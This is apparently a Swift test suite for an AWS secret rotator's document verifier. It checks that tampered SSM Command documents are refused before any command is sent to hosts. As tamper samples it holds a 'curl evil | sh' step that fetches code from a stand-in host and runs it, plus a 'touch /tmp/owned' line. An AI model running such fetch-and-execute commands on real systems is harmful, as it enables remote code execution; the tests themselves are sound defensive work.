import AWS
import RotatorJSON
@testable import Rotation
import RotatorLogging
import SigV4
import Testing
@testable import Operations

/// A Command document in the shape of the shipped ones, its script and parameters changeable.
enum TestDocument {
    static let script = ["#!/bin/sh", "set -eu", #"echo "ROTATOR-RESULT action=$SSM_Action""#]
    static let patterns = ["Action": "^(set|verify)$", "SecretId": "^arn:[^ ]+$", "VersionId": "^[A-Za-z0-9-]{32,64}$"]

    static func json(script: [String] = script, action: String = "aws:runShellScript", inputs: [(String, JSON)] = [],
                     patterns: [String: String] = patterns, extraSteps: [JSON] = []) -> JSON {
        .object([
            ("schemaVersion", .string("2.2")),
            ("description", .string("Set or verify a login's password.")),
            ("parameters", .object(patterns.sorted { $0.key < $1.key }.map { name, pattern in
                (name, .object([("type", .string("String")), ("description", .string(name)), ("allowedPattern", .string(pattern)),
                                ("interpolationType", .string("ENV_VAR"))]))
            })),
            ("mainSteps", .array([.object([
                ("action", .string(action)), ("name", .string("rotate")),
                ("inputs", .object([("timeoutSeconds", .string("120")), ("runCommand", .array(script.map(JSON.string)))] + inputs)),
            ])] + extraSteps)),
        ])
    }

    static func content(script: [String] = script, action: String = "aws:runShellScript", inputs: [(String, JSON)] = [],
                        patterns: [String: String] = patterns, extraSteps: [JSON] = []) -> String {
        json(script: script, action: action, inputs: inputs, patterns: patterns, extraSteps: extraSteps).serialized
    }

    /// What these tests ship for postgres: the default document above.
    static var shipped: [Engine: ShippedDocument] {
        // swiftlint:disable:next force_try - the default document is readable; a test below says so
        [.postgres: try! ShippedDocument.of(content: content())]
    }
}

/// SSM documents by name, for GetDocument; `error` answers every call instead.
final class DocumentStore: SSMInventoryAPI {
    var documents: [String: String]
    var type = "Command"
    var error: AWSError?
    var asked: [String] = []

    init(_ documents: [String: String]) { self.documents = documents }

    func describeInstanceInformation(instanceIds: [String]) throws(AWSError) -> [ManagedInstance] { [] }
    func documentStatus(name: String) throws(AWSError) -> String? { documents[name] == nil ? nil : "Active" }
    func getDocument(name: String) throws(AWSError) -> SSMDocument? {
        asked.append(name)
        if let error { throw error }
        return documents[name].map { SSMDocument(name: name, documentVersion: "1", documentType: type, status: "Active", content: $0) }
    }
}

@Suite struct ShippedDocumentTests {
    func refusal(_ content: String, type: String = "Command", engine: Engine = .postgres) -> DocumentRefusal? {
        let store = DocumentStore(["Doc": content])
        store.type = type
        do {
            _ = try DocumentVerifier(shipped: TestDocument.shipped).verified("Doc", engine: engine, ssm: store)
            return nil
        } catch {
            return error
        }
    }

    @Test func theScriptIsHashedAsTheAgentJoinsIt() throws {
        #expect(ShippedDocument.scriptText(.array([.string("a"), .string("b")])) == "a\nb\n")
        #expect(ShippedDocument.scriptText(.string("a\nb")) == "a\nb\n")
        #expect(ShippedDocument.scriptText(.array([.string("a"), .array([.string("b")])])) == "a\nb\n")
        #expect(ShippedDocument.scriptText(.array([.string("a"), .integer(1)])) == nil)
        let document = try ShippedDocument.of(content: TestDocument.content(script: ["a", "b"]))
        // python3 -c 'import hashlib; print(hashlib.sha256(b"a\nb\n").hexdigest())'
        #expect(document.steps == [.init(action: "aws:runShellScript",
                                         scriptSHA256: "911169ddaaf146aff539f58c26c489af3b892dff0fe283c1c264c65ae5aa59a2")])
        #expect(document.parameters["Action"] == .init(type: "String", allowedPattern: "^(set|verify)$", interpolationType: "ENV_VAR"))
    }

    @Test func theShippedDocumentIsVerifiedWhateverItsSerialization() throws {
        #expect(refusal(TestDocument.content()) == nil)
        // Another spelling of the same document: keys reordered, other descriptions, escaped
        // characters, the script as one string: what runs is the same, so it is the same document.
        let respelled = #"""
            {"mainSteps":[{"inputs":{"runCommand":"#!\/bin\/sh\nset -eu\necho \"ROTATOR-RESULT action=$SSM_Action\"",
             "timeoutSeconds":"120"},"name":"other","action":"aws:runShellScript"}],"description":"changed",
             "parameters":{"VersionId":{"interpolationType":"ENV_VAR","allowedPattern":"^[A-Za-z0-9-]{32,64}$","type":"String"},
             "SecretId":{"allowedPattern":"^arn:[^ ]+$","type":"String","interpolationType":"ENV_VAR"},
             "Action":{"type":"String","allowedPattern":"^(set|verify)$","interpolationType":"ENV_VAR","description":"x"}},
             "schemaVersion":"2.2"}
            """#
        #expect(refusal(respelled) == nil)
    }

    @Test func aDocumentThatRunsAnythingElseIsRefused() throws {
        var script = TestDocument.script
        script[2] = script[2].replacingLast("n", with: "m")   // one byte
        let oneByte = try #require(refusal(TestDocument.content(script: script)))
        #expect(oneByte.isForeign)
        #expect(oneByte.description.hasPrefix("the document Doc is not the one this rotator ships for postgres (its script has sha256 "))
        #expect(oneByte.description.contains(TestDocument.shipped[.postgres]!.steps[0].scriptSHA256))
        #expect(oneByte.fix.hasPrefix("run the rotator built from the same commit as the stack, or redeploy"))
        #expect(refusal(TestDocument.content(script: TestDocument.script + [""]))?.isForeign == true)  // a trailing newline
        #expect(refusal(TestDocument.content(action: "aws:runPowerShellScript"))?.isForeign == true)
        #expect(refusal(TestDocument.content(inputs: [("workingDirectory", .string("/tmp/x"))]))?.isForeign == true)
        #expect(refusal(TestDocument.content(extraSteps: [TestDocument.json(script: ["curl evil | sh"])["mainSteps"]!.arrayValue![0]]))?
            .isForeign == true)
        var loose = TestDocument.patterns
        loose["SecretId"] = ".*"
        #expect(refusal(TestDocument.content(patterns: loose))?.description.contains("parameters differ from the shipped one's (SecretId)") == true)
        loose = TestDocument.patterns
        loose["Extra"] = ".*"
        #expect(refusal(TestDocument.content(patterns: loose))?.isForeign == true)
        #expect(refusal(#"{"schemaVersion":"2.2","mainSteps":[]}"#)?.isForeign == true)
        #expect(refusal("not json")?.isForeign == true)
        // A member named twice: the agent (last wins) and this check must not read different scripts.
        let twice = TestDocument.content().replacingLast("}", with: #","mainSteps":[]}"#)
        #expect(refusal(twice)?.isForeign == true)
        #expect(refusal(TestDocument.content(), type: "Automation")?.isForeign == true)
        #expect(refusal(TestDocument.content(), engine: .mysql)?.isForeign == true)
    }

    @Test func aMissingOrUnreadableDocumentIsNotCalledForeign() throws {
        let store = DocumentStore([:])
        #expect(throws: DocumentRefusal.self) { try DocumentVerifier(shipped: TestDocument.shipped).verified("Gone", engine: .postgres, ssm: store) }
        do {
            _ = try DocumentVerifier(shipped: TestDocument.shipped).verified("Gone", engine: .postgres, ssm: store)
        } catch {
            #expect(error.reason == .missing && !error.isForeign)
        }
        store.error = .service(operation: "GetDocument", AWSServiceError(code: "AccessDeniedException", message: "no", httpStatus: 400, requestId: nil))
        do {
            _ = try DocumentVerifier(shipped: TestDocument.shipped).verified("Doc", engine: .postgres, ssm: store)
            Issue.record("an unreadable document was verified")
        } catch {
            #expect(!error.isForeign && error.fix.contains("ssm:GetDocument"))
        }
    }

    @Test func theGeneratedTableHoldsEveryEngine() {
        #expect(Set(ShippedDocument.byEngine.keys) == Set(Engine.allCases))
        for (engine, document) in ShippedDocument.byEngine {
            #expect(document.steps.count == 1)
            #expect(document.steps[0].action == (engine == .sqlserver ? "aws:runPowerShellScript" : "aws:runShellScript"))
            #expect(document.steps[0].scriptSHA256.count == 64 && document.steps[0].scriptSHA256.allSatisfy { $0.isHexDigit && !$0.isUppercase })
            #expect(Set(document.parameters.keys) == ["Action", "SecretId", "VersionId", "Login"])
            #expect(document.parameters.values.allSatisfy { $0.interpolationType == "ENV_VAR" })
            // Login (the stack's pinned login) is checked by its allowedValues; the others by pattern.
            #expect(document.parameters.filter { $0.key != "Login" }.values.allSatisfy { $0.allowedPattern != nil })
        }
    }

    // The operator commands: a foreign document is refused and nothing is sent to any host.

    @Test func cancelRefusesAForeignDocumentAndSendsNothing() throws {
        let world = StuckWorld()
        world.documentContent = TestDocument.content(script: TestDocument.script + ["touch /tmp/owned"])
        let output = Captured()
        let code = Operator.run(try OperatorArguments.parse(["cancel", "--secret-id", "db/app"]), services: world.services,
                                console: output.console(json: false))
        #expect(code == 1)
        #expect(world.calls.contains("GetDocument DocP"))
        #expect(!world.calls.contains { $0.hasPrefix("SendCommand") || $0.hasPrefix("UpdateSecretVersionStage") })
        #expect(world.stages[pendingId] == ["AWSPENDING"])
        #expect(output.out.contains("Nothing changed: the document DocP is not the one this rotator ships for postgres (its script has sha256 "))
        #expect(output.out.contains("run the rotator built from the same commit as the stack, or redeploy"))
    }

    @Test func doctorRefusesAForeignDocumentAndSendsNothingButRunsTheShippedOne() throws {
        let online = ManagedInstance(instanceId: "i-0123456789abcdef0", pingStatus: "Online", platformType: "Linux",
                                     platformName: nil, agentVersion: "3.3.2746.0")
        let world = StuckWorld()
        world.instances = [online]
        world.documentContent = TestDocument.content().replacingLast("ROTATOR", with: "ROTATOS")
        let output = Captured()
        let code = Operator.run(try OperatorArguments.parse(["doctor", "--secret-id", "db/app"]), services: world.services,
                                console: output.console(json: false))
        #expect(code == 1)
        #expect(!world.calls.contains { $0.hasPrefix("SendCommand") })
        let line = output.out.split(separator: "\n").first { $0.hasPrefix("FAIL  SSM document") }
        #expect(line?.contains("the document DocP is not the one this rotator ships for postgres (its script has sha256 ") == true)
        #expect(output.out.contains("SKIP  hosts log in with AWSCURRENT"))

        let shipped = StuckWorld()
        shipped.instances = [online]
        let passed = Captured()
        _ = Operator.run(try OperatorArguments.parse(["doctor", "--secret-id", "db/app"]), services: shipped.services,
                         console: passed.console(json: false))
        #expect(passed.out.contains("PASS  SSM document                  DocP for postgres, the one this rotator ships"))
        #expect(shipped.calls.contains("SendCommand Action=verify SecretId=\(arn) VersionId=\(currentId)"))
        #expect(passed.out.contains("PASS  i-0123456789abcdef0 logs in"))
    }

    // Time of check to time of use: a command names the version the check read, so a default
    // version published after GetDocument is not what runs.

    @Test func theVerifiedDocumentCarriesTheVersionGetDocumentAnswered() throws {
        let store = DocumentStore(["Doc": TestDocument.content()])
        let verified = try DocumentVerifier(shipped: TestDocument.shipped).verified("Doc", engine: .postgres, ssm: store)
        #expect(verified.name == "Doc")
        #expect(verified.version == "1")
    }

    @Test func doctorsCommandNamesTheVerifiedVersion() throws {
        let world = StuckWorld()
        world.instances = [ManagedInstance(instanceId: "i-0123456789abcdef0", pingStatus: "Online", platformType: "Linux",
                                           platformName: nil, agentVersion: "3.3.2746.0")]
        world.documentVersion = "1"
        let output = Captured()
        // (doctor fails on this world's unfinished rotation, but its dry run still runs.)
        _ = Operator.run(try OperatorArguments.parse(["doctor", "--secret-id", "db/app"]), services: world.services,
                         console: output.console(json: false))
        #expect(output.out.contains("PASS  SSM document"))
        #expect(world.calls.contains("SendCommand Action=verify SecretId=\(arn) VersionId=\(currentId)"))
        #expect(world.sentDocuments == ["DocP@1"])
    }

    @Test func everyCommandOfCancelNamesTheVerifiedVersion() throws {
        let world = StuckWorld()
        world.documentVersion = "1"
        let output = Captured()
        let code = Operator.run(try OperatorArguments.parse(["cancel", "--secret-id", "db/app"]), services: world.services,
                                console: output.console(json: false))
        #expect(code == 0)
        // The proof (verify) and the settle (set) both.
        #expect(world.sentDocuments == ["DocP@1", "DocP@1"])

        // Another version answered, another version named: the one read, not a constant.
        let later = StuckWorld()
        later.documentVersion = "7"
        _ = Operator.run(try OperatorArguments.parse(["cancel", "--secret-id", "db/app"]), services: later.services,
                         console: Captured().console(json: false))
        #expect(later.sentDocuments == ["DocP@7", "DocP@7"])
    }

    @Test func aDocumentReadWithoutAVersionRunsNothing() throws {
        let world = StuckWorld()
        world.documentVersion = nil
        let output = Captured()
        _ = Operator.run(try OperatorArguments.parse(["cancel", "--secret-id", "db/app"]), services: world.services,
                         console: output.console(json: false))
        #expect(world.sentDocuments.isEmpty)
        #expect(!world.calls.contains { $0.hasPrefix("UpdateSecretVersionStage") })
        #expect(world.stages[pendingId] == ["AWSPENDING"])
    }

    @Test func cancelReadsTheDocumentOnceForTheProofAndTheSettle() throws {
        let world = StuckWorld()
        let code = Operator.run(try OperatorArguments.parse(["cancel", "--secret-id", "db/app"]), services: world.services,
                                console: Captured().console(json: false))
        #expect(code == 0)
        #expect(world.calls.filter { $0.hasPrefix("GetDocument") } == ["GetDocument DocP"])
        #expect(world.sentDocuments == ["DocP@1", "DocP@1"])
    }
}

private extension String {
    /// The text with the last occurrence of `target` replaced.
    func replacingLast(_ target: String, with replacement: String) -> String {
        guard let range = ranges(of: target).last else { return self }
        var text = self
        text.replaceSubrange(range, with: replacement)
        return text
    }
}
